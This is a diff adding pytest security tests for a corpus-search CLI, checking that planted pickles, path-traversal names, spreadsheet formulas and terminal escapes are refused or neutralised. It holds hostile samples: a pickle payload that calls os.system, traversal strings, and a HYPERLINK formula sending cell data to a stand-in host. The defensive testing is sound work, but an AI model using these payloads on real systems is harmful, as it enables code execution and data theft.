@@ -1,0 +1,86 @@
+"""Hostile input must not run code or escape the workspace (issue 9, first items)."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from .conftest import run_cli as run
+
+
+class _Payload:
+    """Pickles as a call to os.system: what a planted index would carry."""
+
+    def __init__(self, marker: Path) -> None:
+        self.marker = marker
+
+    def __reduce__(self):
+        return (os.system, (f"touch {self.marker}",))
+
+
+def test_a_planted_pickle_in_a_shared_index_does_not_run(tmp_path, seeds_home):
+    import shutil
+
+    from whoosh.filedb.filestore import FileStorage
+    from whoosh.index import TOC
+
+    home = tmp_path / "shared-workspace"
+    shutil.copytree(seeds_home, home)
+    run(home, "index")
+    folder = home / "indexes" / "whoosh"
+    storage = FileStorage(str(folder))
+    gen = TOC._latest_generation(storage, "MAIN")
+    toc = TOC.read(storage, "MAIN", gen)
+    marker = tmp_path / "pwned"
+    toc.schema._fields["body"].analyzer = _Payload(marker)  # what a shared folder could hold
+    (folder / f"_MAIN_{gen}.toc").unlink()
+    toc.write(storage, "MAIN")
+    out = run(home, "search", "营商环境", code=1)
+    assert not marker.exists(), "the pickled payload ran"
+    assert "refusing to open an index" in out and "posix.system" in out and "Traceback" not in out
+
+
+@pytest.mark.parametrize("name", ["/abs/path", "../../x", "a/b", ".hidden", ""])
+def test_cluster_names_are_plain_names(seeds_home, name):
+    out = run(seeds_home, "cluster", "-k", "2", "--name", name, code=1)
+    assert "use letters, digits" in out
+    assert "use letters, digits" in run(seeds_home, "cluster", "show", name, code=1)
+
+
+def test_spreadsheet_formulas_in_scraped_fields_are_neutralised(tmp_path, corpus):
+    import csv
+    import io
+    import json
+
+    text = next((corpus / "speeches").glob("*.txt")).read_text("utf-8-sig")
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    dump = tmp_path / "d.jsonl"
+    dump.write_text(json.dumps({"text": text, "title": evil, "url": "@SUM(1+1)"}, ensure_ascii=False) + "\n", "utf-8")
+    home = tmp_path / "home"
+    run(home, "ingest", str(dump), "--field", "title=title", "--field", "url=url")
+    row = next(csv.DictReader(io.StringIO(run(home, "export", "--format", "csv"))))
+    assert row["title"] == "'" + evil and row["url"] == "'@SUM(1+1)"
+    raw = next(csv.DictReader(io.StringIO(run(home, "--raw-csv", "export", "--format", "csv"))))
+    assert raw["title"] == evil
+    assert json.loads(run(home, "export").splitlines()[0])["title"] == evil  # JSON stays raw
+
+
+def test_terminal_escapes_never_reach_the_text_or_the_terminal(tmp_path, corpus):
+    text = next((corpus / "speeches").glob("*.txt")).read_text("utf-8-sig")
+    lines = text.split("\n")
+    lines[3] = "\x1b]8;;http://example.invalid\x1b\\点此\x1b]8;;\x1b\\\x1b[31m" + lines[3] + "\x1b[0m\x07\x08"
+    page = tmp_path / "raw" / "p.txt"
+    page.parent.mkdir()
+    page.write_text("\n".join(lines), "utf-8")
+    out = run(tmp_path, "clean", str(page))
+    assert not any(c in out for c in "\x1b\x07\x08\x9b") and "点此" in out
+    home = tmp_path / "home"
+    run(home, "ingest", str(page.parent))
+    import json
+
+    doc = json.loads(run(home, "export").splitlines()[0])
+    assert not any(c in doc["text"] or c in (doc["title"] or "") for c in "\x1b\x07\x08")
+    shown = run(home, "show", doc["id"], "--original")
+    assert "\x1b" not in shown and "\x07" not in shown
